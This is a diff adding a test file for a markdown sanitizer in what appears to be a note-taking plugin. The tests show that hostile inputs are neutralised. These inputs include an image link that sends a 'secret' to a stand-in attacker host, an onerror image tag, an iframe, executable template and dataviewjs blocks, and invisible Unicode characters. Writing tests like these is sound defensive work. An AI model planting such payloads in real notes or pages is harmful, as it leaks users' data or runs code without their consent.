@@ -1,0 +1,28 @@
+import fc from 'fast-check';
+import { harmlessMarkdown } from '../../../src/core/note/harmless-markdown';
+
+test.each([
+  ['an image of another server', '![](https://evil.example/?q=secret)', '[](https://evil.example/?q=secret)'],
+  ['an embed', 'See ![[Secret note]].', 'See [[Secret note]].'],
+  ['an element', '<img src=x onerror=y> and <iframe src="z"></iframe>', '&lt;img src=x onerror=y> and &lt;iframe src="z">&lt;/iframe>'],
+  ['a template', 'Now <% tp.file.title %>', 'Now < % tp.file.title %>'],
+  ['a template in code', '```\n<%* await x %>\n```', '```\n< %* await x %>\n```'],
+  ['a block that is run', '```dataviewjs\ndv.x()\n```', '```text\ndv.x()\n```'],
+  ['a query in a line', '`$= dv.x()` and `= this.y`', '` = dv.x()` and ` = this.y`'],
+  ['what cannot be seen', 'a\u0000b\u202Ec\u200Bd', 'abcd'],
+])('%s does nothing any more', (_, text, harmless) => {
+  expect(harmlessMarkdown(text)).toBe(harmless);
+});
+
+test.each(['Use `Vec<String>` here.', '```ts\nconst a: Map<string, number> = x![0];\n```', 'a < b and <https://example.org>', '- one\n- two\n\n> quote\n\n| a | b |\n|---|---|', '```python\nprint("x")\n```'])('ordinary text stays: %s', (text) => {
+  expect(harmlessMarkdown(text)).toBe(text);
+});
+
+test('what is harmless stays as it is', () => {
+  fc.assert(fc.property(fc.string({ unit: fc.constantFrom('!', '[', ']', '<', '%', '`', '~', 'a', ' ', '\n', '=', '$', '/', '>', '\u0000', 'dataviewjs') }), (text) => {
+    const once = harmlessMarkdown(text);
+    expect(harmlessMarkdown(once)).toBe(once);
+    expect(once).not.toMatch(/<%|!\[\[/);
+    expect(once).not.toContain('\u0000');
+  }));
+});
